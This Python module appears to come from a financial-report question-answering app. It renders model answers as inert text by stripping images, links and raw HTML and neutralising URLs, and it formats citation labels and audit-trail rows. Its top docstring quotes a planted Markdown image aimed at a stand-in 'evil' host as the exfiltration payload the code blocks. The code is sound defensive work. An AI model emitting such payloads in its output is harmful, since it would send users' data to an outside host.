"""How an answer is shown: model output as text, citations as short labels, the trace as steps.

* :func:`safe_markdown` — model output (and text copied from reports) rendered as text: images,
  links, raw HTML and link definitions are removed, bare URLs cannot become links; the only
  decoration left is what Annalyst itself adds (citation labels, the facts route's tables).
  A planted ``![x](http://evil/?q=…)`` never makes the browser fetch anything.
* :func:`citation_labels` — "[NETFLIX_2017_10K.pdf p.41]" → "Netflix 2017 · p.41"; with
  :func:`citation_links` each label is a link to the app's page view of the cited page.
* :func:`trace_steps` — the audit trail as rows (step, tool, inputs, result, page).
* :func:`echoes_prompt_example` — text that repeats the answer prompt's own examples.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Sequence
from typing import Any
from urllib.parse import quote, urlencode

from backend.answering.answer import REFUSAL_EN, REFUSAL_ZH
from backend.answering.prompts import FEW_SHOT
from backend.domain.companies import strip_legal

_IMAGE = re.compile(r"!\s*\[([^\]]*)\]\s*(?:\([^)]*\)|\[[^\]]*\])?")
_LINK = re.compile(r"\[([^\]]*)\]\s*\((?:[^()]|\([^)]*\))*\)")
_LINK_REF = re.compile(r"\[([^\]]*)\]\s*\[[^\]]*\]")
_LINK_DEF = re.compile(r"^\s{0,3}\[[^\]]+\]:\s*\S+.*$", re.M)
_URL = re.compile(r"\b(?:https?|ftp|file|data|javascript)\s*:\s*/*", re.I)
_WWW = re.compile(r"\bwww\.", re.I)
_EMAIL_AT = re.compile(r"(?<=\w)@(?=\w)")
_ZWSP = "\u200b"
_REFUSAL_ANSWERS = {REFUSAL_EN, REFUSAL_ZH}


def safe_markdown(
    text: str, labels: dict[str, str] | None = None, links: dict[str, str] | None = None
) -> str:
    """``text`` made safe to render as Markdown; ``labels`` maps the app's own citation tags
    (``[file p.N]``) to the short labels shown instead, and ``links`` a tag to the app's own
    route for its page view (:func:`citation_links`): that label becomes a link to it.

    Brackets in the text itself are escaped, so only the app's labels can be links or
    Streamlit directives (a model writing ``:red[…]`` or ``[x](…)`` shows those characters)."""
    labels = labels or {}
    if not labels:
        return _safe_text(text)
    tags = re.compile("(" + "|".join(map(re.escape, sorted(labels, key=len, reverse=True))) + ")")
    parts = tags.split(text)  # odd positions: the tags
    return "".join(
        _label_markdown(labels[part], (links or {}).get(part)) if i % 2 else _safe_text(part)
        for i, part in enumerate(parts)
    )


def _safe_text(text: str) -> str:
    out = strip_links(text).replace("<", "&lt;").replace(">", "&gt;")
    out = _URL.sub(lambda m: m.group(0).replace(":", ":" + _ZWSP), out)
    out = _WWW.sub("www" + _ZWSP + ".", out)
    out = _EMAIL_AT.sub("@" + _ZWSP, out)
    return re.sub(r"([\\$\[\]])", r"\\\1", out)  # a backslash, too, is shown as typed


def _label_markdown(label: str, url: str | None) -> str:
    """A citation label, highlighted; a link to ``url`` (the app's own route) when given."""
    shown = stream_safe(label)
    return f":blue-background[[{shown}]({url})]" if url else f":blue-background[{shown}]"


def citation_links(citations: Sequence[Any], **params: Any) -> dict[str, str]:
    """Each citation's tag → the app's page-view route, ``?doc=<id>&page=<n>`` plus ``params``
    (e.g. the conversation and turn whose numbers the view highlights). Relative: it opens the
    page view of this app wherever it is served (Streamlit opens such links in a new tab)."""
    return {
        c.tag: "?" + urlencode({"doc": c.doc_id, "page": c.page, **params}, quote_via=quote)
        for c in citations
    }


_MD_ACTIVE = re.compile(r"([\\`*_{}\[\]()<>#+!|~$])")


def stream_safe(piece: str) -> str:
    """A piece of streamed model text, every Markdown-active character escaped: an image or a
    link split over several pieces can never form, so nothing is fetched while it streams."""
    return _MD_ACTIVE.sub(r"\\\1", piece)


def plain(text: str) -> str:
    """Report text shown as it is printed (Markdown and HTML escaped)."""
    return stream_safe(text.replace("\n", " "))


def strip_links(text: str) -> str:
    """``text`` without Markdown images (their alt text stays), links (their text stays) and link
    definitions."""
    out = _IMAGE.sub(lambda m: m.group(1), text)
    out = _LINK_DEF.sub("", out)
    out = _LINK.sub(lambda m: m.group(1), out)
    return _LINK_REF.sub(lambda m: m.group(1), out)


_TAG_START = re.compile(r"<(?=[A-Za-z/!?])")


def api_text(text: str) -> str:
    """Answer text for API clients, which often render Markdown with HTML: no images or links
    (their text stays) and no raw HTML tags (``<img …>`` arrives as ``&lt;img …>``, which a
    Markdown client shows as written); "<5%" and other text keep their characters."""
    return _TAG_START.sub("&lt;", strip_links(text))


def short_label(doc: Any, page: int) -> str:
    """ "Netflix 2017 · p.41", "华锦股份 2019 · p.88", "Best Buy 2023 10-Q · p.3"."""
    if doc is None:
        return f"p.{page}"
    zh = bool(re.search(r"[\u4e00-\u9fff]", doc.company or ""))
    name = (doc.aliases[0] if zh and doc.aliases else strip_legal(doc.company or "")) or (
        doc.file_name.rsplit(".", 1)[0][:24]
    )
    kind = doc.report_type or ""
    annual = not kind or kind.upper() == "10-K" or "年度报告" in kind or "annual" in kind.lower()
    parts = [name, str(doc.fiscal_year or ""), "" if annual else kind]
    return " ".join(p for p in parts if p) + f" · p.{page}"


def citation_labels(citations: Sequence[Any], document: Any) -> dict[str, str]:
    """Each citation's tag (``[file p.N]``) → its short label; ``document(doc_id)`` gives the
    catalogue's record."""
    docs: dict[str, Any] = {}
    out: dict[str, str] = {}
    for c in citations:
        if c.doc_id not in docs:
            docs[c.doc_id] = document(c.doc_id)
        out[c.tag] = short_label(docs[c.doc_id], c.page)
    return out


# --- the trace as steps ---------------------------------------------------------------------------
def _inputs(args: dict[str, Any]) -> str:
    return ", ".join(f"{k}={v}" for k, v in args.items() if v not in (None, "", []))


def _result(tool: str, result: Any) -> tuple[str, str]:
    """(a one-line result, the pages it comes from)."""
    if tool == "calculate" and isinstance(result, dict):
        return f"{result.get('expression')} = {result.get('value')}", ""
    if isinstance(result, list) and result and isinstance(result[0], dict):
        first = result[0]
        if "value" in first:  # facts: get_fact / compare
            rows = [
                f"{r.get('company')} {r.get('year')} {r.get('label')} = {r.get('value')} "
                f"{r.get('unit') or ''}".strip()
                for r in result[:3]
            ]
            pages = [f"{r.get('file')} p.{r.get('page')}" for r in result[:3]]
            return "; ".join(rows), "; ".join(dict.fromkeys(pages))
        pages = [f"{r.get('file')} p.{r.get('page')}" for r in result[:5] if "page" in r]
        return f"{len(result)} passages", "; ".join(dict.fromkeys(pages))
    if not result:
        return "—", ""
    return str(result)[:200], ""


def trace_steps(trace: Iterable[dict[str, Any]]) -> list[dict[str, str]]:
    """One row per step of the audit trail: step, tool, inputs, result, page."""
    rows = []
    for step in trace:
        name = str(step.get("step", "?"))
        if name == "tool":
            tool = str(step.get("tool", ""))
            result, pages = _result(tool, step.get("result"))
            if step.get("error"):
                result = f"⚠ {step['error']}"
            rows.append(
                {
                    "step": name,
                    "tool": tool,
                    "inputs": _inputs(step.get("args") or {}),
                    "result": result,
                    "page": pages,
                }
            )
            continue
        if name == "evidence":
            sources = step.get("sources") or []
            rows.append(
                {
                    "step": name,
                    "tool": "",
                    "inputs": f"{step.get('tokens', 0)} tokens",
                    "result": " | ".join(str(x.get("text", ""))[:80] for x in sources)[:300],
                    "page": "; ".join(f"{x.get('file')} p.{x.get('page')}" for x in sources[:5]),
                }
            )
            continue
        if name == "dropped":
            for d in step.get("sentences") or []:
                rows.append(
                    {"step": name, "tool": "", "inputs": str(d.get("sentence", ""))[:200],
                     "result": str(d.get("reason", "")), "page": ""}
                )  # fmt: skip
            continue
        details = {k: v for k, v in step.items() if k != "step"}
        query = str(details.pop("query", "") or details.pop("standalone_question", ""))
        results = details.pop("results", None)
        pages = "; ".join(map(str, results[:5])) if isinstance(results, list) else ""
        reason = details.pop("reason", "")
        text = f"{len(results)} passages" if isinstance(results, list) else ""
        text = str(reason or text or _inputs(details))
        rows.append(
            {"step": name, "tool": "", "inputs": query, "result": text[:300], "page": pages}
        )
    return rows


# --- the prompt's own examples --------------------------------------------------------------------
def _example_markers() -> list[str]:
    """The names the answer prompt's examples are about ("Acme Corp", "示例公司")."""
    markers = []
    for _, example in FEW_SHOT:
        if example in _REFUSAL_ANSWERS:
            continue
        m = re.match(r"[A-Z]\w*(?: [A-Z]\w*)*|[\u4e00-\u9fff]{2,4}", example)
        if m:
            markers.append(m.group(0))
    return markers


def echoes_prompt_example(text: str, question: str) -> bool:
    """True when ``text`` names what the prompt's examples are about and the question does not."""
    low, q = text.lower(), question.lower()
    return any(m.lower() in low and m.lower() not in q for m in _example_markers())


# --- an empty chat ----------------------------------------------------------------------------------
def example_questions(docs: Sequence[Any], limit: int = 3) -> list[str]:
    """Questions the indexed reports answer, to start an empty chat (the newest annual report of
    each language first)."""
    annual = [d for d in docs if d.company and d.fiscal_year]
    annual.sort(key=lambda d: (d.fiscal_year, d.company), reverse=True)
    en = next((d for d in annual if not re.search(r"[\u4e00-\u9fff]", d.company)), None)
    zh = next((d for d in annual if re.search(r"[\u4e00-\u9fff]", d.company)), None)
    out = []
    if en is not None:
        name, y = strip_legal(en.company), en.fiscal_year
        out += [
            f"What was {name}'s total revenue in FY{y}?",
            f"How much did {name}'s net income change from FY{y - 1} to FY{y}?",
        ]
    if zh is not None:
        name = zh.aliases[0] if zh.aliases else strip_legal(zh.company)
        out.insert(1, f"{name}{zh.fiscal_year}年的营业收入是多少？")
    if en is not None:
        out.append(f"What are the main risk factors {strip_legal(en.company)} describes?")
    return out[:limit]
